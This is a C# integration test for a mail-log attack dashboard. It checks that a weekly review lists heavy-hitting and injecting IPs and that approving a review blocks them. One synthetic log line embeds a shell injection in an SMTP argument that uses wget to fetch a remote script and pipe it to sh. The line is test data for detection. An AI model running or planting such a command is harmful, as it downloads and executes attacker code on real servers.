using System.Globalization;
using AttackDash.Storage.Blocking;

namespace AttackDash.Storage.IntegrationTests;

[Collection(PostgresCollection.Name)]
public sealed class ReviewTests(PostgresFixture pg)
{
    private static IEnumerable<string> Lines(string day, string ip, int n, string what) =>
        Enumerable.Range(0, n).Select(i => string.Create(CultureInfo.InvariantCulture, $"{day} 10:{i / 60 % 60:D2}:{i % 60:D2} mx sm-mta[{100 + i}]: {what.Replace("IP", ip, StringComparison.Ordinal)}"));

    private const string Attack = "[IP]: possible SMTP attack: command=AUTH, count=5";

    [Fact]
    public async Task The_weekly_review_lists_heavy_hitters_and_injectors_that_are_not_blocked_and_approving_blocks_them()
    {
        var cs = await pg.NewDatabaseAsync();
        using var dir = new TempDir();
        var log = dir.File("maillog");
        var lines = new List<string>();
        lines.AddRange(Lines("Jun  3", "62.233.50.10", 150, Attack));                   // heavy hitter
        lines.AddRange(Lines("Jun  4", "62.233.50.20", 5, Attack));                     // light: not in the review
        lines.AddRange(Lines("Jun  4", "185.220.101.9", 1,
            "5634A0aa000101: ruleset=check_mail, arg1=<`wget http://x/a|sh`>, relay=[IP], reject=553 5.1.8 <x>... Domain of sender address x does not exist"));
        lines.AddRange(Lines("Jun  5", "45.155.205.50", 120, Attack));                      // heavy, but blocked already
        lines.AddRange(Lines("Jun  5", "62.233.50.77", 12,
            "5635A0aa000102: from=<a@b.example>, size=10, class=0, nrcpts=1, proto=ESMTP, daemon=MTA, relay=mail.partner.example [IP]"));
        await File.WriteAllLinesAsync(log, lines);
        Assert.Equal(0, TestCli.Run(cs, "ingest", "--tz", "UTC", "--year", "2025", log).Exit);
        Assert.Equal(0, TestCli.Run(cs, "block", "45.155.205.50", "--reason", "earlier").Exit);

        var reviews = new ReviewService(Store.Of(cs));
        var review = await reviews.OpenAsync(new DateOnly(2025, 6, 2));
        Assert.Equal(["62.233.50.10", "185.220.101.9"], review.Items.OrderByDescending(i => i.Events).Select(i => i.Ip.ToString()));
        var heavy = review.Items.Single(i => i.Ip.ToString() == "62.233.50.10");
        Assert.Equal(150, heavy.Events);
        Assert.Equal("smtp_attack=150", heavy.Kinds);
        Assert.Equal(12, heavy.CollateralMessages);
        Assert.Equal(1, review.Items.Single(i => i.Ip.ToString() == "185.220.101.9").Injections);
        Assert.Equal(review.Id, (await reviews.OpenAsync(new DateOnly(2025, 6, 4))).Id);

        var blocking = new BlockingService(Store.Of(cs));
        await blocking.DecideAsync(heavy.Id, "block24", "alice");
        await Assert.ThrowsAsync<BlockRefusedException>(() => blocking.DecideAsync(heavy.Id, "reject", "alice"));
        // A refused block decides nothing: the block and the decision commit together.
        var light = review.Items.Single(i => i.Ip.ToString() == "185.220.101.9");
        Assert.Equal(0, TestCli.Run(cs, "allow", "185.220.101.0/24").Exit);
        await Assert.ThrowsAsync<BlockRefusedException>(() => blocking.DecideAsync(light.Id, "block24", "alice"));
        Assert.Null((await reviews.LatestAsync())!.Items.Single(i => i.Id == light.Id).Decision);
        Assert.Empty(await blocking.DecideAllAsync(review.Id, "reject", "alice"));
        Assert.Equal("45.155.205.50/32\n62.233.50.0/24\n", TestCli.Run(cs, "export", "--format", "cidr").Stdout);
        Assert.NotNull((await reviews.LatestAsync())!.ClosedAt);
        Assert.Equal(1, await TestSql.ScalarAsync(cs, "SELECT count(*) FROM audit_log WHERE action = 'review-reject' AND target = '185.220.101.9'"));
    }
}
